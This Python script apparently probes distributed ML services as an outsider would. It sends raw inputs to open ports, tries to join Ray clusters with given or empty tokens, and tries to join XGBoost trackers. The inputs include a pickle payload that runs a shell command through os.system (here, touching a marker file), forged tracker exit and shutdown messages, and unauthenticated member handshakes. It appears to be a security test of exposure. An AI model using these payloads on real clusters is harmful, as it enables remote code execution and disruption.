"""What a stranger on the network tries: `python stranger.py`, one request in JSON on stdin.

{"targets": [[host, port], ...], "seconds": 5}   raw words to every port, again and again; prints what was answered
{"ray": [[address, token], ...], "seconds": 20}  join with Ray, at host:port or ray://host:port; the token "" is none
{"xgboost": [[host, port], ...], "seconds": 5}   join as a member, with XGBoost's own words, wherever a port opens
"""

from __future__ import annotations

import json
import os
import pickle
import socket
import struct
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress

PATIENCE_S = 0.5


class Payload:
    """Leaves a mark where it is unpickled."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {os.environ.get('STRANGER_MARK', '/dev/null')}",)


def _text(message: dict[str, object]) -> bytes:
    text = json.dumps(message).encode()
    return struct.pack("=i", len(text)) + text


START = struct.pack("=i", 0xFF99) + _text({"world_size": -1, "rank": -1, "task_id": "0"})
WORDS = [
    b"",
    b"\xff\xff\xff\xff",  # the order to exit, at an error port of XGBoost's
    START + _text({"cmd": 1, "port": 9, "error_port": 9}),
    START + _text({"cmd": 3, "msg": "end", "code": 1}),
    *(f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode() for path in ("/api/jobs/", "/metrics", "/logs", "/")),
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9),
    pickle.dumps(Payload()),
    struct.pack("=q", 1 << 40) + pickle.dumps(Payload()),
    bytes(71),
    *(bytes(32) + struct.pack("!BIH", purpose, 1, 9) + bytes(32) for purpose in (0, 1, 2)),  # member 1, without proof
    os.urandom(4096),
]


def shout(targets: list[tuple[str, int]], seconds: float) -> dict[str, list[str]]:
    """Return the answers of each port, as hexadecimal digits."""
    answered: dict[str, list[bytes]] = {}
    deadline = time.monotonic() + seconds
    held: list[socket.socket] = []
    while time.monotonic() < deadline:
        for host, port in targets:
            for words in WORDS:
                with suppress(OSError):
                    connection = socket.create_connection((host, port), timeout=PATIENCE_S)
                    connection.settimeout(0.05)
                    held.append(connection)
                    connection.sendall(words)
                    if said := connection.recv(65536):
                        answered.setdefault(f"{host}:{port}", []).append(said)
        while len(held) > 200:  # the others stay open, and say nothing more
            held.pop(0).close()
    return {where: [said.hex() for said in sorted(set(all_said))] for where, all_said in answered.items()}


RAY = """
import os, sys
own = {"RAY_AUTH_MODE": "token", "RAY_AUTH_TOKEN": sys.argv[2]} if sys.argv[2] else {"RAY_AUTH_MODE": "disabled"}
os.environ.update(own)
import ray  # which reads them once
ray.init(address=sys.argv[1], log_to_driver=False)
print("INSIDE", ray.get(ray.remote(lambda: 1).options(num_cpus=0).remote()))
"""
XGBOOST = """
import json, socket, sys, time
from xgboost import collective
deadline = time.monotonic() + float(sys.argv[2])
while time.monotonic() < deadline:
    for host, port in json.loads(sys.argv[1]):
        try:
            socket.create_connection((host, port), timeout=0.2).close()
        except OSError:
            continue
        print("TRIED", host, port, flush=True)
        try:
            collective.CommunicatorContext(
                dmlc_tracker_uri=host, dmlc_tracker_port=port, dmlc_task_id="0", dmlc_retry=1, dmlc_timeout=1
            ).__enter__()
        except Exception:
            continue
        print("INSIDE", collective.get_rank(), flush=True)
"""


def attempt(script: str, *arguments: str, seconds: float) -> str:
    """Return what a client printed; one that waits in vain is ended."""
    process = subprocess.Popen(
        [sys.executable, "-c", script, *arguments], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True
    )
    try:
        return process.communicate(timeout=seconds)[0]
    except subprocess.TimeoutExpired:
        process.kill()
        return process.communicate()[0] + "\nwaited in vain"


def at_once(attempts: list[tuple[str, ...]], seconds: float) -> list[str]:
    with ThreadPoolExecutor(len(attempts)) as pool:
        return list(pool.map(lambda arguments: attempt(*arguments, seconds=seconds), attempts))


def main() -> None:
    request = json.load(sys.stdin)
    answer: object
    if "targets" in request:
        answer = shout([(host, port) for host, port in request["targets"]], request["seconds"])
    elif "ray" in request:
        answer = at_once([(RAY, address, token) for address, token in request["ray"]], request["seconds"])
    else:
        told = (json.dumps(request["xgboost"]), str(request["seconds"]))
        answer = attempt(XGBOOST, *told, seconds=request["seconds"] + 6)
    print(json.dumps(answer))


if __name__ == "__main__":
    main()
